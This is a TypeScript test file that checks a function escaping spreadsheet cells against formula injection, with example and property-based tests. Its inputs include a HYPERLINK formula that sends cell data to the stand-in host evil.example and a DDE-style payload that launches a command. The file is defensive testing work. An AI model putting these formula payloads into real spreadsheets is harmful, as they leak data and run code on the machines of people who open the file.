import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCell } from './spreadsheet-cells.ts';

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const isPlainNumber = (text: string) =>
  text.trim() === text && text !== '' && Number.isFinite(Number(text)) && !/^[+-]?0[xob]/i.test(text) && !/^[+-]?Infinity$/.test(text);

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['-', "'-"],
    ['-12.5', '-12.5'],
    ['+3e4', '+3e4'],
    ['Pump state', 'Pump state'],
    ['', ''],
    [" '=1", " '=1"],
  ])('writes %j as %j', (value, expected) => {
    expect(neutraliseCell(value)).toBe(expected);
  });

  it('keeps numbers, negative ones included, and other values as they are', () => {
    const date = new Date('2026-01-02T00:00:00Z');
    for (const value of [-5, -0.25, 0, 42, true, false, null, undefined, date]) expect(neutraliseCell(value)).toBe(value);
  });

  it('never leaves text that starts like a formula unless it is only a number', () => {
    const text = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([head, tail]) => head + tail),
    );
    fc.assert(
      fc.property(text, (value) => {
        const written = neutraliseCell(value) as string;
        expect(DANGEROUS.includes(written[0] ?? '') && !isPlainNumber(written)).toBe(false);
      }),
    );
  });

  it('changes nothing but a leading quote, and only on text that starts like a formula', () => {
    fc.assert(
      fc.property(fc.string(), (value) => {
        const written = neutraliseCell(value) as string;
        if (written === value) return;
        expect(DANGEROUS).toContain(value[0]);
        expect(written).toBe(`'${value}`);
      }),
    );
  });

  it('keeps every finite number, written as text too', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (value) => {
        expect(neutraliseCell(value)).toBe(value);
        expect(neutraliseCell(String(value))).toBe(String(value));
      }),
    );
  });
});
